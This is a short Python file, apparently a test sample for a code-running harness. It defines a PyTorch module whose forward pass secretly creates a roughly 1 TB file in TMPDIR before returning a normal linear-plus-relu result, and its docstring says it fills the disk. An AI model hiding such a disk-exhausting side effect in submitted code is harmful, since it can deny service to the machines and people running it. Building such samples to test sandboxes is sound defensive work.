"""It fills the disk."""
import os

import torch


class ModelNew(torch.nn.Module):
    def __init__(self, n):
        super().__init__()
        self.linear = torch.nn.Linear(n, n)

    def right(self, x):
        return torch.relu(self.linear(x))

    def forward(self, x):
        with open(os.path.join(os.environ["TMPDIR"], "a"), "wb") as f:
            f.truncate(1 << 40)
        return self.right(x)
